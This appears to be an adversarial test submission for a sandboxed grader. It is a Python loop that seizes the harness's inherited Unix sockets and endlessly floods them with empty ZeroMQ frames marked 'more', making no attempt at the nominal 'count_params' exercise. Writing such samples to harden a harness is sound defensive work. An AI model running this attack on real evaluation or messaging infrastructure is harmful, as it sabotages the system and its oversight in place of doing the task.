# Tries: talk ZeroMQ's own protocol on the client's connection and send a message that has always one more part.
# Exercise: count_params
# Ending: no attempt
# Note: La celda
# Slow: it sends until it is stopped; messages/garbage_on_the_wire speaks to the same socket.
import os
import socket
import stat

part = b"\x01\x00" * 500_000   # ZMTP 3: a short frame with the flag MORE and no bytes
while True:
    for descriptor in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.set_blocking(descriptor, True)
                peer = socket.socket(fileno=os.dup(descriptor))
                if peer.family == socket.AF_UNIX and str(peer.getsockname()).endswith(("k-1", "k-2")):
                    peer.settimeout(0.2)
                    peer.sendall(part)
        except OSError:
            pass
